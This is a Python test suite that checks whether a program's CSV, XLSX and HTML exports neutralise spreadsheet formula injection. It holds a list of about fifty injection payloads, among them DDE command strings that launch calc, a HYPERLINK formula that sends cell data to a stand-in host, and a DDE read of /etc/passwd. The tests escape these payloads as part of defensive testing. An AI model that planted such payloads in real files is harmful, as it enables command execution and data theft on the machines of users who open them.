"""Words that a spreadsheet would run as formulas go into every table that leaves the program, and run in none of them."""

import contextlib
import csv
import io
import re
import shutil
import sqlite3
import subprocess
import zipfile

import harness
from harness import INVALID, read_rows, write_rows
from xlsform_test import read_sheets

STARTS = ("=", "+", "-", "@", "\t", "\r")
COMMANDS = ("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"klik")', 'WEBSERVICE("http://x")',
            'IMPORTXML("http://x","//a")', 'DDE("soffice","/etc/passwd","A1")')
PAYLOADS = [*(start + command for start in STARTS for command in COMMANDS), "'=1+1", "''@x", "'-2+3", "=1+1;=2", '="a""b"', "=1,2",
            "-1-1", "+6281234567890+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=\n1+1"]
NUMBERS = ["-2.5", "+7", "0", "1234", "-1"]


def runs(cell):
    """Whether a spreadsheet may take a cell of a CSV for a formula. A number is none."""
    return cell.startswith(STARTS) and re.fullmatch(r"[+-]?[0-9.]+", cell) is None


def cells_of(raw):
    return [cell for row in csv.reader(io.StringIO(raw.decode("utf-8"), newline="")) for cell in row]


class FormulasTest(harness.WorkspaceTest):
    """Fifty payloads in every column that people or files can fill."""

    def check_table(self, path):
        """No cell of the table runs, and every payload is in it, behind an apostrophe."""
        cells = cells_of(path.read_bytes())
        self.assertEqual([cell for cell in cells if runs(cell)], [], path.name)
        for payload in PAYLOADS:
            self.assertIn("'" + payload, cells, path.name)
        return cells

    def test_there_are_fifty(self):
        self.assertGreaterEqual(len(set(PAYLOADS)), 50)
        self.assertEqual([payload for payload in PAYLOADS if not runs(payload.lstrip("'"))], [])

    def test_ratings(self):
        head = ["indicator", "rater", "stage", "value", "outcome", "reason", "because"]
        rows = [[f"S{number % 40 + 1:02}", "'" + payload, "self", "", "not_applicable", "'" + payload, "'" + payload]
                for number, payload in enumerate(PAYLOADS)]
        self.succeed("ratings", self.workspace, "import", write_rows(self.folder / "masuk.csv", head, rows))
        self.succeed("ratings", self.workspace, "export", "keluar.csv")
        self.check_table(self.folder / "keluar.csv")
        second = self.new_workspace("dua.jenjang")
        self.succeed("ratings", second, "import", "keluar.csv")
        self.assertEqual(self.stored(second, "SELECT because, reason FROM ratings"),
                         self.stored(self.workspace, "SELECT because, reason FROM ratings"))
        self.assertEqual({because for because, _ in self.stored(second, "SELECT because, reason FROM ratings")}, set(PAYLOADS))

    def test_evidence(self):
        (self.folder / "a.txt").write_text("".join(f"Butir {i:02} berlaku.\n\n" for i in range(len(PAYLOADS))), "utf-8")
        self.succeed("add", self.workspace, "a.txt")
        head = ["indicator", "source", "page", "quote", "stance", "note", "by", "state", "decided_by", "because", "coverage", "unit"]
        rows = [["S01", "a", "", f"Butir {i:02} berlaku", "supports", "'" + payload, "'" + payload, "accepted", "'" + payload, "'" + payload,
                 "1/2", "'" + payload] for i, payload in enumerate(PAYLOADS)]
        self.succeed("evidence", self.workspace, "import", write_rows(self.folder / "masuk.csv", head, rows))
        self.succeed("evidence", self.workspace, "export", "keluar.csv")
        self.check_table(self.folder / "keluar.csv")

    def test_many_assessments(self):
        codes = [f"S{number:02}" for number in range(1, 41)]
        head = ["id", "catatan", "-2+3", "angka", *codes]
        rows = [[payload, payload, payload, NUMBERS[i % len(NUMBERS)], *["2"] * 40] for i, payload in enumerate(PAYLOADS)]
        write_rows(self.folder / "masuk.csv", head, [*rows, ["@salah", *["=9"] * 43]])
        run = self.run_program("batch", "--model", "somm", "masuk.csv", "-o", "keluar.csv", "--keep-going")
        self.assertEqual(run.code, INVALID, str(run))
        cells = self.check_table(self.folder / "keluar.csv")
        self.assertIn("'-2+3", cells)
        rows = read_rows((self.folder / "keluar.csv").read_bytes().decode("utf-8"))
        self.assertEqual([row["angka"] for row in rows], [NUMBERS[i % len(NUMBERS)] for i in range(len(PAYLOADS))])
        errors = cells_of((self.folder / "keluar.errors.csv").read_bytes())
        self.assertEqual([cell for cell in errors if runs(cell)], [])
        self.assertIn("'=9", errors)

    def test_forms_and_lists(self):
        """A model's words in XLSX are words; those in HTML stay in their element."""
        model = self.folder / "somm"
        shutil.copytree(harness.REPOSITORY / "models" / "somm", model)
        for path in sorted(model.glob("dimensions/*.yaml")):
            lines = path.read_text("utf-8").split("\n")
            for number, line in enumerate(lines):
                if line.lstrip().startswith("name: {") and "id:" in line and "en:" in line:
                    indent = line[:len(line) - len(line.lstrip())]
                    payload = PAYLOADS[number % 35].replace("\r", "").replace("\t", "").replace("'", "''")
                    lines[number] = f"{indent}name: {{ id: '{payload}', en: '{payload} <b>' }}"
            path.write_text("\n".join(lines), "utf-8")
        self.succeed("export", "xlsform", "--model", model, "-o", "formulir.xlsx")
        shown = [words for rows in read_sheets(self.folder / "formulir.xlsx").values() for row in rows for words in row.values()]
        self.assertTrue([words for words in shown if "=1+1" in words])
        with zipfile.ZipFile(self.folder / "formulir.xlsx") as parts:
            sheets = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/")]
        self.assertEqual([sheet for sheet in sheets if re.search(rb"<f[ >]", sheet)], [])
        workspace = self.new_workspace("model.jenjang", model=model)
        self.succeed("rate", workspace, "--indicator", "S22", "--rater", "A", "--value", "2")
        page = self.succeed("report", workspace, "--form", "request-list", "--until", "2026-12-15", "--format", "html").out
        self.assertIn("&lt;b&gt;", page)
        self.assertNotIn("<b>", page)

    def test_libreoffice_runs_none_of_them(self):
        """And it runs some where nothing is put before them, so that it would tell."""
        codes = [f"S{number:02}" for number in range(1, 41)]
        write_rows(self.folder / "masuk.csv", ["id", *codes], [[payload, *["2"] * 40] for payload in PAYLOADS])
        self.succeed("batch", "--model", "somm", "masuk.csv", "-o", "keluar.csv")
        subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{self.folder}/profil", "--convert-to", "fods", "--outdir",
                        "lembar", "keluar.csv", "masuk.csv"], cwd=self.folder, check=True, capture_output=True, timeout=harness.SECONDS_MAX)
        formulas = {name: (self.folder / "lembar" / f"{name}.fods").read_text("utf-8").count("table:formula=") for name in ("keluar", "masuk")}
        self.assertEqual(formulas["keluar"], 0)
        self.assertGreater(formulas["masuk"], 5)

    def stored(self, workspace, query):
        with contextlib.closing(sqlite3.connect(f"file:{workspace}?mode=ro", uri=True)) as database:
            return sorted(database.execute(query).fetchall())


if __name__ == "__main__":
    harness.main()
